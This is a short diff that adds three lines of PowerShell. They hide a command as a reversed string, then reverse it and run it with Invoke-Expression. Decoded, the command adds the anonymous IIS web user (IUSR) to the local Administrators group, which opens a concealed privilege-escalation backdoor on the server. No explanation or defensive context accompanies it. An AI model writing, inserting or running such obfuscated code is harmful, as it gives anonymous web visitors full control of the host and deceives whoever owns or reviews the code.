@@ -1,0 +1,3 @@
+$t = 'RSUI rebmeM- srotartsinimdA puorG- rebmeMpuorGlacoL-ddA'.ToCharArray()
+[array]::Reverse($t)
+iex (-join $t)
